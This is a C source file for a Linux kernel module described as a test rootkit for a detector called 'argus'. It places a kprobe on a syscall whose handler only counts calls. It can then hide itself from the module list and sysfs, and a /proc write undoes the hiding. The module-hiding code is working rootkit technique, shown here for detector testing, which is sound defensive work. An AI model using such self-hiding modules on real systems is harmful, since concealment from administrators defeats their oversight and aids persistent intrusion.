// SPDX-License-Identifier: GPL-2.0
/*
 * hookkp - a test rootkit for argus's Kernel Function Hooked: a kprobe
 * whose handler is in a module that hides itself.
 *
 * insmod hookkp.ko [sym=__x64_sys_sysinfo] [hide=1]
 * registers a kprobe on sym whose pre_handler (in this module) counts the
 * calls (parameter hits), then, with hide=1, unlinks the module from the
 * modules list and deletes its kobject, as hidekmod does.  With hide=0 it
 * is an ordinary module with a kprobe, and rmmod removes it.
 *
 * echo 1 >/proc/hookkp unregisters the kprobe and links a hidden module
 * back into both lists (not sysfs); it then cannot be unloaded (its sysfs
 * teardown would find no directory).  For testing only; loaded in a
 * disposable test guest.
 */
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/rculist.h>

static char *sym = "__x64_sys_sysinfo";
module_param(sym, charp, 0444);
static int hide = 1;
module_param(hide, int, 0444);
static ulong hits;

static struct list_head *modules_head;
static struct kset *kset;
static bool hidden, registered;

static int pre(struct kprobe *p, struct pt_regs *regs)
{
	hits++;
	return 0;
}

static struct kprobe kp = { .pre_handler = pre };

static struct list_head *find_head(void)
{
	struct list_head *p;
	int n = 0;

	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
		if ((unsigned long)p < MODULES_VADDR || (unsigned long)p >= MODULES_END)
			return p;
	return NULL;
}

static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	if (registered)
		unregister_kprobe(&kp);
	registered = false;
	if (hidden) {
		list_add_tail_rcu(&THIS_MODULE->list, modules_head);
		spin_lock(&kset->list_lock);
		list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &kset->list);
		spin_unlock(&kset->list_lock);
		hidden = false;
	}
	pr_info("hookkp: kprobe removed, module listed\n");
	return len;
}

static const struct proc_ops ctl_ops = {
	.proc_write = ctl_write,
};

static int __init hookkp_init(void)
{
	int ret;

	kp.symbol_name = sym;
	ret = register_kprobe(&kp);
	if (ret)
		return ret;
	registered = true;
	pr_info("hookkp: kprobe on %s at %px, handler %px\n", sym, kp.addr, pre);
	if (!hide)
		return 0;
	modules_head = find_head();
	kset = THIS_MODULE->mkobj.kobj.kset;
	if (!modules_head || !kset || !proc_create("hookkp", 0200, NULL, &ctl_ops)) {
		unregister_kprobe(&kp);
		return -ENOENT;
	}
	kset_get(kset);
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	hidden = true;
	return 0;
}

static void __exit hookkp_exit(void)
{
	if (registered)
		unregister_kprobe(&kp);
}

module_init(hookkp_init);
module_exit(hookkp_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("argus test rootkit: a kprobe in a hidden module");
